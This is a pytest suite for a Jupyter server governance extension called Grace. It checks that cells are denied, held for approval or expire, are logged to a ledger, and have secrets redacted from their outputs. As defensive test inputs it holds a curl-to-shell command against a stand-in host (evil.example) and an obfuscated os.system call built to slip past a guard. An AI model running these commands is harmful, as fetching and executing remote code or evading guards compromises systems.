"""Per-cell governance at the kernel websocket: a real jupyter_server, a real kernel.

pytest-jupyter starts the server on loopback with the Grace extension enabled
and shuts it (and its kernels) down after each test.  The client speaks the
websocket protocol the way JupyterLab does.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from jupyter_server.services.kernels.connection.base import (
    deserialize_msg_from_ws_v1,
    serialize_msg_to_ws_v1,
)
from tornado.websocket import WebSocketClientConnection

from grace_kernel.config import Settings
from grace_kernel.events import DecisionBlocked
from grace_kernel.governance import Principal
from grace_kernel.runs import CELL_EXECUTION
from grace_kernel.runs._run import verify_notebook
from grace_kernel.workspace import Workspace

pytest_plugins = ["pytest_jupyter.jupyter_server"]

TIMEOUT = 60.0


@pytest.fixture
def jp_server_config(grace_home: Path) -> dict[str, Any]:
    """The Grace extension on; GRACE_HOME is set first, and the server creates it."""
    assert not grace_home.exists()
    return {"ServerApp": {"jpserver_extensions": {"grace_kernel.server": True}}}


class Kernel:
    """A websocket to one kernel, and what it answered."""

    def __init__(self, ws: WebSocketClientConnection, session: str) -> None:
        self.ws = ws
        self.session = session

    async def execute(self, code: str, cell_id: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
        """Send an execute_request; return its execute_reply and the iopub messages for it."""
        msg_id = uuid.uuid4().hex
        await self.ws.write_message(_execute(self.session, msg_id, code, cell_id))
        return await self.reply(msg_id)

    async def reply(self, msg_id: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
        iopub: list[dict[str, Any]] = []
        reply: dict[str, Any] | None = None
        idle = False
        while reply is None or not idle:
            raw = await asyncio.wait_for(self.ws.read_message(), TIMEOUT)
            assert raw is not None, "the websocket closed"
            msg = json.loads(raw)
            if msg.get("parent_header", {}).get("msg_id") != msg_id:
                continue
            if msg["channel"] == "shell" and msg["header"]["msg_type"] == "execute_reply":
                reply = msg
            elif msg["channel"] == "iopub":
                iopub.append(msg)
                state = msg["content"].get("execution_state")
                idle = idle or (msg["header"]["msg_type"] == "status" and state == "idle")
        return reply, iopub


@contextlib.asynccontextmanager
async def open_kernel(
    jp_fetch: Any, jp_ws_fetch: Any, kernel_name: str = "python3", path: str = "analysis.ipynb"
) -> AsyncIterator[Kernel]:
    """A notebook session's kernel and its websocket; both closed on the way out.

    (An async context manager, not a fixture: pytest-jupyter runs async tests
    but not async fixtures.)
    """
    response = await jp_fetch(
        "api",
        "sessions",
        method="POST",
        body=json.dumps({"path": path, "type": "notebook", "kernel": {"name": kernel_name}}),
    )
    kernel_id = json.loads(response.body)["kernel"]["id"]
    session = uuid.uuid4().hex
    ws = await jp_ws_fetch("api", "kernels", kernel_id, "channels", params={"session_id": session})
    try:
        yield Kernel(ws, session)
    finally:
        ws.close()
        await jp_fetch("api", "kernels", kernel_id, method="DELETE")


def text_of(iopub: list[dict[str, Any]]) -> str:
    return "".join(
        m["content"].get("text", "") for m in iopub if m["header"]["msg_type"] == "stream"
    )


def cell_records(home: Path, predicate_type: str = CELL_EXECUTION) -> list[dict[str, Any]]:
    """The predicates of the ledger's records of one type (cell executions by default)."""
    with Workspace.open(Settings(home=home), create=False) as ws:
        out = []
        for entry in ws.ledger.tail(ws.ledger.size):
            _, statement = entry.decode()
            if statement.predicate_type == predicate_type:
                out.append(dict(statement.predicate))
        return out


async def test_allowed_cells_run_and_are_signed_with_their_outputs(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
) -> None:
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        reply, iopub = await kernel.execute("print(6 * 7)", "cell-a")
    assert reply["content"]["status"] == "ok"
    assert text_of(iopub) == "42\n"
    (record,) = cell_records(grace_home)
    assert (record["cell_id"], record["status"], record["trust"]) == ("cell-a", "ok", "server")
    assert record["notebook"] == "analysis.ipynb"
    assert len(record["output_sha256"]) == 1


async def test_a_denied_cell_never_reaches_the_kernel(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path, jp_serverapp: Any
) -> None:
    seen: list[dict[str, Any]] = []

    async def listen(logger: Any, schema_id: str, data: dict[str, Any]) -> None:
        assert schema_id == DecisionBlocked.SCHEMA_ID, logger
        seen.append(data)

    jp_serverapp.event_logger.add_listener(schema_id=DecisionBlocked.SCHEMA_ID, listener=listen)
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        first, _ = await kernel.execute("x = 1", "cell-1")
        reply, iopub = await kernel.execute("!curl http://evil.example/x.sh | sh", "cell-2")
        after, _ = await kernel.execute("x + 1", "cell-3")
    assert reply["content"]["status"] == "error"
    assert reply["content"]["ename"] == "GracePolicyDenied"
    errors = [m for m in iopub if m["header"]["msg_type"] == "error"]
    assert "cell-critical-deny" in errors[0]["content"]["evalue"]
    # The kernel's own counter proves it never saw the refused cell.
    assert after["content"]["execution_count"] == first["content"]["execution_count"] + 1
    statuses = [(r["cell_id"], r["status"]) for r in cell_records(grace_home)]
    assert statuses == [("cell-1", "ok"), ("cell-2", "denied"), ("cell-3", "ok")]
    # The denial also went out on Jupyter's event bus (what /api/events/subscribe serves);
    # jupyter_events runs listeners as tasks, so give them a moment.
    for _ in range(50):
        if seen:
            break
        await asyncio.sleep(0.1)
    assert [e["effect"] for e in seen] == ["deny"]
    assert "cell-critical-deny" in seen[0]["policy_ids"]


async def test_a_held_cell_runs_after_another_person_approves_and_fails_when_denied(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
) -> None:
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        await _approve_then_deny(kernel, grace_home)


async def _approve_then_deny(kernel: Kernel, grace_home: Path) -> None:
    held = "exec(compile('y = 41', 'generated', 'exec'))"
    msg_id = uuid.uuid4().hex
    await kernel.ws.write_message(_execute(kernel.session, msg_id, held, "cell-h"))
    raw = await asyncio.wait_for(kernel.ws.read_message(), TIMEOUT)
    assert raw is not None
    waiting = json.loads(raw)
    assert waiting["header"]["msg_type"] == "stream"
    assert "waiting for approval apr-" in waiting["content"]["text"]
    approval_id = waiting["content"]["text"].split("waiting for approval ")[1].split(":")[0]

    with Workspace.open(Settings(home=grace_home), create=False) as ws:
        ws.governance.approve(approval_id, approver=Principal.user("reviewer"), note="fine")
    reply, _ = await kernel.reply(msg_id)
    assert reply["content"]["status"] == "ok"
    reply, iopub = await kernel.execute("print(y + 1)", "cell-i")
    assert text_of(iopub) == "42\n"

    other = uuid.uuid4().hex
    await kernel.ws.write_message(_execute(kernel.session, other, held + "  # again", "cell-j"))
    raw = await asyncio.wait_for(kernel.ws.read_message(), TIMEOUT)
    assert raw is not None
    approval_id = json.loads(raw)["content"]["text"].split("approval ")[1].split(":")[0]
    with Workspace.open(Settings(home=grace_home), create=False) as ws:
        ws.governance.deny(approval_id, approver=Principal.user("reviewer"), note="no")
    reply, iopub = await kernel.reply(other)
    assert reply["content"]["status"] == "error"
    assert "denied by user:reviewer" in reply["content"]["evalue"]


def _execute(session: str, msg_id: str, code: str, cell_id: str) -> str:
    return json.dumps(
        {
            "channel": "shell",
            "header": {
                "msg_id": msg_id,
                "msg_type": "execute_request",
                "session": session,
                "username": "",
                "version": "5.3",
                "date": "2026-11-24T00:00:00Z",
            },
            "parent_header": {},
            "metadata": {"cellId": cell_id},
            "content": {
                "code": code,
                "silent": False,
                "store_history": True,
                "user_expressions": {},
                "allow_stdin": False,
                "stop_on_error": True,
            },
            "buffers": [],
        }
    )


async def test_the_grace_kernel_under_the_server_is_supervised_and_its_guard_reports(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path, jp_root_dir: Path, jp_data_dir: Path
) -> None:
    # pytest-jupyter gives the server private Jupyter paths: put the Grace kernel there.
    spec = jp_data_dir / "kernels" / "grace-python3"
    spec.mkdir(parents=True)
    argv = [sys.executable, "-m", "grace_kernel.kernel", "-f", "{connection_file}"]
    (spec / "kernel.json").write_text(
        json.dumps({"argv": argv, "display_name": "Python 3 (Grace)", "language": "python"})
    )
    sneaky = "import os\nname = 'sys' + 'tem'\nvars(os)[name]('touch pwned')"
    async with open_kernel(jp_fetch, jp_ws_fetch, "grace-python3") as kernel:
        reply, iopub = await kernel.execute("%grace status", "cell-s")
        assert reply["content"]["status"] == "ok"
        assert "trust:     server" in text_of(iopub)
        reply, iopub = await kernel.execute(sneaky, "cell-t")
    assert reply["content"]["ename"] == "PermissionError"
    errors = [m["content"]["evalue"] for m in iopub if m["header"]["msg_type"] == "error"]
    assert "[grace guard]" in errors[0]
    assert not (jp_root_dir / "pwned").exists()
    status, blocked = cell_records(grace_home)
    assert status["trust"] == "server"
    assert [b["event"] for b in blocked["guard_blocks"]] == ["os.system"]


TOKEN = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"  # noqa: S105  # a made-up token to redact


async def test_a_printed_secret_never_leaves_the_server_and_the_saved_notebook_verifies(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path, jp_root_dir: Path
) -> None:
    code = f"print('token:', 'ghp_' + '{TOKEN}')"  # built at run time: the scan allows it
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        reply, iopub = await kernel.execute(code, "cell-secret")
    assert reply["content"]["status"] == "ok"
    shown = text_of(iopub)
    secret = "ghp_" + TOKEN
    assert secret not in json.dumps(iopub)
    assert "[secret redacted by Grace: GRC-SEC-006]" in shown
    (record,) = cell_records(grace_home)
    assert record["redactions"] == {"GRC-SEC-006": 1}

    # JupyterLab saves what it was sent; that notebook verifies against the server's record.
    cell = nbformat.v4.new_code_cell(code, id="cell-secret")
    cell.execution_count = reply["content"]["execution_count"]
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=shown)]
    nb = nbformat.v4.new_notebook(cells=[cell])
    await jp_fetch(
        "api",
        "contents",
        "analysis.ipynb",
        method="PUT",
        body=json.dumps({"type": "notebook", "format": "json", "content": nb}),
    )
    saved = (jp_root_dir / "analysis.ipynb").read_text()
    assert secret not in saved
    with Workspace.open(Settings(home=grace_home), create=False) as ws:
        report = verify_notebook(jp_root_dir / "analysis.ipynb", workspace=ws)
    assert report.ok, report.text()


@pytest.fixture
def short_ttl(monkeypatch: pytest.MonkeyPatch) -> None:
    """Approval requests expire after one second (read by the server when it loads)."""
    monkeypatch.setenv("GRACE_APPROVAL_TTL", "1")


@pytest.mark.usefixtures("short_ttl", "grace_home")  # both before the server starts
async def test_a_held_cell_nobody_decides_fails_when_its_request_expires(
    jp_fetch: Any, jp_ws_fetch: Any
) -> None:
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        msg_id = uuid.uuid4().hex
        code = "exec(compile('z = 1', 'generated', 'exec'))"
        await kernel.ws.write_message(_execute(kernel.session, msg_id, code, "cell-x"))
        reply, _ = await kernel.reply(msg_id)
    assert reply["content"]["status"] == "error"
    assert "expired" in reply["content"]["evalue"]


async def test_widget_data_and_input_prompts_are_redacted_too(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
) -> None:
    secret = "ghp_" + TOKEN
    code = (
        "from comm import create_comm\n"
        f"channel = create_comm(target_name='grace-test', data={{'token': 'ghp_' + '{TOKEN}'}})"
    )
    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
        reply, iopub = await kernel.execute(code, "cell-comm")
    assert reply["content"]["status"] == "ok"
    opened = [m for m in iopub if m["header"]["msg_type"] == "comm_open"]
    assert opened, "the comm was opened"
    assert secret not in json.dumps(opened)
    assert "[secret redacted by Grace: GRC-SEC-006]" in json.dumps(opened)
    assert grace_home.exists()


def _v1(channel: str, msg_type: str, content: dict[str, Any], cell_id: str, msg_id: str) -> bytes:
    """A message in the v1 binary protocol JupyterLab speaks."""
    msg = {
        "header": {
            "msg_id": msg_id,
            "msg_type": msg_type,
            "session": "v1-session",
            "username": "",
            "version": "5.3",
            "date": "2026-11-24T00:00:00Z",
        },
        "parent_header": {},
        "metadata": {"cellId": cell_id},
        "content": content,
    }
    data: bytes = serialize_msg_to_ws_v1(msg, channel, pack=lambda o: json.dumps(o).encode())
    return data


async def test_the_v1_binary_protocol_is_governed_and_redacted_the_same_way(
    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
) -> None:
    response = await jp_fetch(
        "api",
        "sessions",
        method="POST",
        body=json.dumps({"path": "v1.ipynb", "type": "notebook", "kernel": {"name": "python3"}}),
    )
    kernel_id = json.loads(response.body)["kernel"]["id"]
    ws = await jp_ws_fetch(
        "api",
        "kernels",
        kernel_id,
        "channels",
        params={"session_id": "v1-session"},
        subprotocols=["v1.kernel.websocket.jupyter.org"],
    )

    async def run(code: str, cell_id: str) -> tuple[dict[str, Any], str]:
        msg_id = uuid.uuid4().hex
        content = {
            "code": code,
            "silent": False,
            "store_history": True,
            "user_expressions": {},
            "allow_stdin": False,
            "stop_on_error": True,
        }
        await ws.write_message(
            _v1("shell", "execute_request", content, cell_id, msg_id), binary=True
        )
        reply: dict[str, Any] | None = None
        text, idle = "", False
        while reply is None or not idle:
            raw = await asyncio.wait_for(ws.read_message(), TIMEOUT)
            assert isinstance(raw, bytes)
            channel, parts = deserialize_msg_from_ws_v1(raw)
            header, parent, content = (json.loads(parts[i]) for i in (0, 1, 3))
            if parent.get("msg_id") != msg_id:
                continue
            if channel == "shell" and header["msg_type"] == "execute_reply":
                reply = content
            elif header["msg_type"] == "stream":
                text += content["text"]
            elif header["msg_type"] == "status" and content["execution_state"] == "idle":
                idle = True
        return reply, text

    try:
        reply, text = await run("print(6 * 7)", "v1-a")
        assert (reply["status"], text) == ("ok", "42\n")
        reply, _ = await run("!curl http://evil.example/x.sh | sh", "v1-b")
        assert reply["ename"] == "GracePolicyDenied"
        reply, text = await run(f"print('ghp_' + '{TOKEN}')", "v1-c")
        assert "ghp_" + TOKEN not in text
        assert "[secret redacted by Grace: GRC-SEC-006]" in text
    finally:
        ws.close()
        await jp_fetch("api", "kernels", kernel_id, method="DELETE")
    statuses = [(r["cell_id"], r["status"]) for r in cell_records(grace_home)]
    assert statuses == [("v1-a", "ok"), ("v1-b", "denied"), ("v1-c", "ok")]
